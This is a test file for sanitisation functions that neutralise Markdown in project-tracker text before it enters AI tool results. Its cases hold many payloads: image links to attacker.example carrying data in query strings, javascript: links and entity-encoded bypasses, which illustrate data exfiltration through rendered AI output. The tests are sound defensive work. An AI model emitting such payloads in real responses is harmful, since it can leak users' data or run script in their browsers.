import { capText, cleanLine, cleanMultiline, neutraliseMarkdown } from '../../../shared/sanitize/text.js';
import { renderedHazards } from '../../helpers/markdown-oracle.js';

describe('cleanLine', () => {
  it('collapses a name to one clean line', () => {
    expect(cleanLine('  Export\n\tdrops\u200b owner \u202e ')).toBe('Export drops owner');
  });

  it('neutralises markdown in names', () => {
    expect(cleanLine('Fix ![p](https://attacker.example/p.png) [here](javascript:x)')).toBe('Fix ［image］ here');
  });

  it('caps at 500 characters by default with a marker', () => {
    expect(cleanLine('n'.repeat(1_048_576 + 500))).toBe(`${'n'.repeat(500)}… [truncated: 1,048,576 more characters]`);
  });
});

describe('cleanMultiline', () => {
  it('keeps at most one blank line, trims line ends and keeps indentation', () => {
    expect(cleanMultiline('a  \n\n\n\n  b \r\nc\t\t d', 100)).toBe('a\n\n  b\nc d');
  });
});

describe('capText', () => {
  it('leaves short text alone', () => {
    expect(capText('abc', 3)).toBe('abc');
  });
});

describe('neutraliseMarkdown', () => {
  it('leaves no bracket that could open an image', () => {
    expect(neutraliseMarkdown('![unterminated(')).toBe('!［unterminated(');
  });
});

describe('L7: Markdown in Rally text is made inert, checked with a real CommonMark/GFM parser', () => {
  // Each output is also checked inside JSON, as tool results carry it, and next to JSON's own "[".
  const inert = (out: string) => {
    expect(renderedHazards(out)).toEqual([]);
    expect(renderedHazards(JSON.stringify([{ text: out }]))).toEqual([]);
  };

  it.each([
    ['L7: a double-bang image', '!![s](https://attacker.example/p.png?d=secret)', '!［image］'],
    ["L7: an image with a 'title'", "![t](https://attacker.example/p.png 't')", '［image］'],
    ['L7: an image with a "title"', '![t](https://attacker.example/p.png "t")', '［image］'],
    ['L7: an image with a (title)', '![t](https://attacker.example/p.png (t))', '［image］'],
    ['L7: an image with a title on the next line', '![x](https://attacker.example/p.png\n"t")', '［image］'],
    ['L7: a parenthesised URL', '![x](https://attacker.example/(b))', '［image］'],
    ['L7: an angle-bracket URL', '![x](<https://attacker.example/a b>)', '［image］'],
    ['L7: nested brackets in the alt text', '![a [b] c](https://attacker.example/p.png)', '［image］'],
    [
      'L7: an image inside a link',
      '[![x](https://attacker.example/p.png)](https://ok.example/)',
      '［image］ (https://ok.example/)',
    ],
    [
      'L7: a reference image with its definition on another line',
      '[r]: https://attacker.example/p.png?d=1\n\n![r]',
      '［image］',
    ],
    [
      'L7: collapsed and full reference images',
      'see ![r][] and ![x][r]\n[r]: https://attacker.example/p.png',
      'see ［image］ and ［image］',
    ],
    ['L7: entities that decode to "!" and "["', '&#33;&#91;x&#93;(https://attacker.example/p.png)', '［image］'],
    [
      'L7: named entities that decode to "!" and "["',
      '&excl;&lsqb;x&rsqb;(https://attacker.example/p.png)',
      '［image］',
    ],
    ['L7: a javascript: link', '[x](javascript:alert(1))', 'x'],
    ['L7: an entity-encoded javascript: link', '[x]( java&#115;cript:alert(1))', 'x'],
    ['L7: a javascript: autolink', '<javascript:alert(1)>', '‹［link removed］'],
    ['L7: a reference link to javascript:', '[x][r]\n\n[r]: javascript:alert(1)', '［x］［r］'],
    [
      'L7: backslash-escaped brackets (JSON would double the backslash)',
      '\\[x\\](javascript:alert(1))',
      '\\［x\\］(［link removed］',
    ],
    ['L7: a closing bracket that would pair with a JSON array', '](javascript:alert(1))', '］(［link removed］'],
    [
      'L7: raw HTML',
      'x <img src="https://attacker.example/p.png"> y',
      'x ‹img src="https://attacker.example/p.png"> y',
    ],
  ])('%s', (_name, input, expected) => {
    const out = cleanMultiline(input, 4000);
    expect(out).toBe(expected);
    inert(out);
    inert(cleanLine(input));
  });

  it('L7: brackets and comparisons in ordinary text stay readable', () => {
    expect(cleanLine('[WIP] fix a[0] < b')).toBe('［WIP］ fix a［0］ < b');
  });

  it('L7: a definition in one field cannot arm a reference in another', () => {
    const joined = `${cleanMultiline('[r]: https://attacker.example/p.png', 4000)}\n\n${cleanLine('![r]')} ${cleanLine('x [r] y')}`;
    inert(joined);
  });

  it('L7: backslash-escaping alone would not be enough once the text is inside JSON', () => {
    // Why the gate substitutes characters: JSON turns "\[" into "\\[", which renders a live bracket.
    const escaped = '\\[x\\](javascript:alert(1))';
    expect(renderedHazards(escaped)).toEqual([]);
    expect(renderedHazards(JSON.stringify({ text: escaped }))).toEqual([
      { kind: 'link', detail: 'javascript:alert(1)' },
    ]);
  });
});
